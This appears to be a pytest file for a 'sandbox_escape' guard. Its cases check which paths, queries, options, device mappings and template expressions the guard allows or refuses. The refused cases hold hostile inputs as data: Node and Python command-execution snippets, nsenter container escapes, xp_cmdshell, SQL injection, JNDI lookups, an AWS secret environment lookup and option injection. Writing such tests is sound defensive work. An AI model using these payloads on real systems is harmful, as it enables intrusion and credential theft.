"""Files, questions and expressions that ``sandbox_escape`` lets pass, and what differs from them in little."""

from __future__ import annotations

import pytest

from guardsvc.guards.native.sandbox_escape.paths import is_public
from guardsvc.model import ALLOW, Deny
from tests.guards.test_sandbox_escape import judge


@pytest.mark.parametrize(
    "name", ["public.pem", "certs/ca.pem", "x\\fullchain.pem", "ca-cert.pem", "keys/public_key.pem"]
)
def test_public_files(name: str) -> None:
    assert is_public(name)
    assert judge({"path": name}) is ALLOW


@pytest.mark.parametrize(
    "name",
    [
        "server.pem",
        "ca-key.pem",
        "certKey.pem",
        "public/private.pem",
        "cert_private.pem",
        "cert-bundle.pem",
        "site.pem?x=/public.pem",
        "site.pem#/public.pem",
        "site.pem\x00/public.pem",
        "republic.pem",
        f"{'a' * 300}.public.pem",
    ],
)
def test_files_that_may_be_private(name: str) -> None:
    assert not is_public(name)
    assert isinstance(judge({"path": name}), Deny)


@pytest.mark.parametrize(
    "query",
    [
        "what does child_process do",
        "node child_process exec, spawn",
        "how does modprobe nvidia work?",
        "which sp_configure options",
        "information_schema documentation",
        "docker --network host vs bridge",
        "podman run --privileged risks?",
        "sp_configure how to enable",
        "where id = 1 syntax in sql",
        "django {%- for -%} docs",
        "what is ${jndi:ldap://<host>}?",
        "--kubeconfig and --pre explained",
    ],
)
def test_questions_pass(query: str) -> None:
    assert judge({"query": query}) is ALLOW


@pytest.mark.parametrize(
    "query",
    [
        'require("child_process").exec',
        'node\nrequire("child_process")',
        'what; require("child_process")',
        'what does require("child_process").exec("id") do',
        'how __import__("os").popen("id")',
        "python `x` __import__('os')",
        'how {__import__("os")}',
        "nsenter --target 1",
        "how; nsenter --target 1",
        "how\nnsenter --target 1 -m",
        "what $(nsenter --target 1 -m)",
        "how | nsenter --target 1",
        "xp_cmdshell whoami",
        "what execute master.dbo.xp_cmdshell whoami",
        "information_schema.tables columns",
        "what, information_schema.tables",
        "what natural join information_schema.tables",
        "list union table information_schema.tables",
        "show tables from information_schema",
        "docker run --privileged alpine:3 meaning",
        "docker run --privileged --pid=host -t 1 meaning",
        "docker run --privileged; id meaning",
        "--privileged meaning",
        "xp_cmdshell what exec whoami",
        "SELECT * FROM users performance",
        "SELECT * FROM users WHERE id = 1 performance--",
        "where 1=1 or performance",
        "where 1=1; drop table users performance",
        "{% if",
        "{%if(1)%}",
        "{% if %}{% set x=1 %}",
        "${jndi:ldap://...}${jndi:ldap://x.example}",
        "how does ${jndi:ldap://...@x.example} work",
        "x;${jndi:ldap://...}",
    ],
)
def test_what_could_be_read_behind_a_question_is_refused(query: str) -> None:
    assert isinstance(judge({"query": query}), Deny)


@pytest.mark.parametrize(
    "value",
    [
        "--kubeconfig=/tmp/x",
        "--kubeconfig ./x --output=json",
        "--pre=sh",
        "--vault-password-file=x.sh",
        "-toolchain-exec=id",
        "-execdir sh {} +",
        "-c\\!id",
    ],
)
def test_options_in_place_of_a_name_are_refused(value: str) -> None:
    for name in ("pod_name", "query", "pattern"):
        assert isinstance(judge({name: value}), Deny)


@pytest.mark.parametrize(
    "value",
    ["--kubeconfig", "--env-file is ignored", "-1", "--help", "-pre=1 or so", "--- a-file=x", "kubeconfig=/tmp/x"],
)
def test_what_only_begins_as_options_do_passes(value: str) -> None:
    assert judge({"title": value}) is ALLOW


@pytest.mark.parametrize(
    "value", ["/dev/ttyUSB0", "/dev/ttyUSB0:/dev/mem", "/dev/mem:/dev/ttyUSB0", "/dev/tty:/dev/tty"]
)
def test_devices_but_serial_adapters_of_containers_are_refused(value: str) -> None:
    assert isinstance(judge({"devices": [value]}), Deny)
    assert judge({"devices": ["/dev/ttyACM0:/dev/ttyUSB1:rw"]}) is ALLOW


@pytest.mark.parametrize(
    "text",
    [
        "{{this}}",
        "{{#each a}}{{this.constructor}}{{/each}}",
        "{{#each a}}{{this.b.c}}{{/each}}",
        "{{#each a}}{{lookup this b}}{{/each}}",
        "{{#each a}}{{{this}}}{{/each}}",
        "${sys:user.home}/${env:AWS_SECRET_KEY}",
        "${script:javascript:1}",
        "${ url:UTF-8:http://x.example}",
    ],
)
def test_expressions_that_do_more_than_print_are_refused(text: str) -> None:
    assert isinstance(judge({"name": text}), Deny)
